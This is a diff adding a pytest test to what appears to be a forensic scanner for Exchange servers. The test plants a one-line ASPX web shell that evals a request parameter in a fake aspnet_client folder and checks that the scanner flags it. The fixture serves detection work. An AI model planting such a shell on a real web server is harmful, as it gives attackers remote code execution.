@@ -146,6 +146,23 @@ def test_clean_evidence_has_no_pivot_pass(tmp_path: Path) -> None:
     assert pivot["files"] == 0 and pivot["rows"] == 0 and "reason" in pivot
 
 
+def test_no_text_log_no_pivot_indicators(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A web root alone (a shell in it: a high finding): no text log to search, so the pass does not
+    even gather the findings' indicators."""
+    from exhunt import api
+
+    shell = tmp_path / "evidence" / "inetpub" / "wwwroot" / "aspnet_client" / "x.aspx"
+    shell.parent.mkdir(parents=True)
+    shell.write_bytes(b'<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>')
+    calls: list[int] = []
+    real = api.attacker.gather
+    monkeypatch.setattr(api.attacker, "gather", lambda *a: calls.append(1) or real(*a))
+    document = scan([tmp_path / "evidence"], ScanOptions(out=tmp_path / "t", quiet=True, progress=False,
+                                                         host="EXCH01", jobs=1)).document
+    assert any(f.severity in ("high", "critical") for f in document.findings)
+    assert document.rules["triage"]["pivot"]["reason"] == "no text log to search" and calls == []
+
+
 def test_pivot_rows_keep_their_lines_across_blocks_and_chunks(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     """The pivot pass counts a segment's lines only when a later hit needs them: the attacker's
     rows after header blocks and read chunks without a hit keep the full index's line numbers."""
